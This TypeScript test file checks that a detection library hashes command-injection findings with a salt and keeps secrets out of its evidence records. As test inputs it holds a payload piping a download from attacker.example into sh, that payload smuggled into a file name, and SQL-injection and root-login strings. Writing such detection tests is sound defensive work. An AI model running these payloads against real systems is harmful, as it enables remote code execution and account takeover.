import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { attackClassNames } from '@postern/core';
import { shapeOf } from './evidence.ts';
import { inspectEvent } from './inspect.ts';
import type { InspectOptions } from './options.ts';

const salt = 'a secret of the operator';
const attack = '; curl http://attacker.example/x7 | sh';
const first = (text: string, options?: InspectOptions) => {
  const [detection] = inspectEvent({ v: text }, options).detections.filter(({ class: name }) => name === 'cmdi');
  assert.ok(detection);
  return detection;
};

describe('the hash of a detection', () => {
  test('is there with a salt only', () => {
    assert.equal('hash' in first(attack), false);
    assert.match(first(attack, { salt }).hash ?? '', /^[0-9a-f]{16}$/);
  });
  test('is the same for the same attack, however it is written and wherever it stands', () => {
    const hashOf = (text: string) => first(text, { salt }).hash;
    assert.equal(hashOf(attack), hashOf(attack));
    assert.equal(hashOf(attack), first(`name.pdf${attack}`, { salt }).hash);
    assert.notEqual(hashOf(attack), hashOf(attack.replace('x7', 'x8')));
  });
  test('is another one under another salt', () => {
    assert.notEqual(first(attack, { salt }).hash, first(attack, { salt: `${salt}!` }).hash);
  });
  test('asks for the salt when something was found', () => {
    let asked = 0;
    const options = { salt: () => `${salt}${asked++ === 0 ? '' : '?'}` };
    inspectEvent({ v: 'benign; text' }, options);
    assert.equal(asked, 0);
    assert.equal(first(attack, options).hash, first(attack, { salt }).hash);
  });
  test('needs a salt that nobody guesses', () => assert.throws(() => inspectEvent({}, { salt: 'short' }), TypeError));
});

describe('what is kept of a text', () => {
  test('an excerpt by default', () => assert.ok(first(attack).evidence.includes('curl http://attacker.example')));
  test('its shape', () => {
    const { evidence, reason } = first(attack, { keep: { cmdi: 'shape' } });
    assert.match(evidence, /^[a0 ;:/.|]+$/);
    assert.ok(!reason.includes('curl'));
  });
  test('nothing, not even in the place or the reason', () => {
    const [detection] = inspectEvent({ [attack]: 1 }, { keep: { cmdi: 'nothing' } }).detections;
    assert.equal(detection?.evidence, '');
    assert.ok(!JSON.stringify(detection).includes('attacker'));
  });
  const secret = 'hunter2SECRET';
  const leaks: readonly { readonly name: string; readonly event: unknown; readonly keep?: 'nothing' }[] = [
    { name: 'the name above', event: { b: { [`password=${secret}`]: { x: attack } } }, keep: 'nothing' },
    { name: 'the name above in JSON', event: { b: JSON.stringify({ [`tok ${secret}`]: { x: attack } }) }, keep: 'nothing' },
    { name: 'a form in a name', event: { b: { [`password=${secret}${attack}`]: 1 } }, keep: 'nothing' },
    { name: 'a name in another form', event: { b: { [encodeURIComponent(`it's ${secret}${attack}`)]: 1 } }, keep: 'nothing' },
    { name: 'a name of a form', event: { b: `${encodeURIComponent(`it's ${secret}`)}=${encodeURIComponent(attack)}` }, keep: 'nothing' },
    { name: 'the value of a form', event: { v: `password=${secret}${attack}` } },
    { name: 'the value of a form, encoded', event: { v: `a=1&password=${encodeURIComponent(secret + attack)}` } },
    { name: 'a member', event: { password: `${secret}${attack}` } },
    { name: 'a member in base64', event: { 'x-api-key': [btoa(`${secret}${attack} `)] } },
    { name: 'an account', event: { v: `'; CREATE USER a IDENTIFIED BY '${secret}'; -- ` } },
    { name: 'a client', event: { v: `; mysql -uroot -p${secret} -e 'select 1'` } },
    { name: 'a quote in a secret', event: { password: `${secret}' or '1'='1` } },
  ];
  for (const { name, event, keep } of leaks)
    test(`no secret of ${name}`, () => {
      const { detections } = inspectEvent(event, keep && { keep: Object.fromEntries(attackClassNames.map((one) => [one, keep])) });
      assert.ok(detections.length > 0);
      assert.ok(!JSON.stringify(detections).includes('hunter2'), JSON.stringify(detections, null, 1));
    });
  test('of other classes all the same', () => assert.ok(first(attack, { keep: { sqli: 'nothing' } }).evidence.includes('curl')));
  test('a misspelt class or way is an error', () => {
    assert.throws(() => inspectEvent({}, { keep: { cmd: 'shape' } as never }), TypeError);
    assert.throws(() => inspectEvent({}, { keep: { cmdi: 'shapes' } as never }), TypeError);
  });
});

const shapes: readonly { readonly text: string; readonly shape: string }[] = [
  { text: "' OR 1=1 --", shape: "' aa 0=0 --" },
  { text: 'Ünïcode٣\u200b\0\n', shape: 'aaaaaaa0?? ' },
];
for (const { text, shape } of shapes) test(`the shape ${shape}`, () => assert.equal(shapeOf(text), shape));
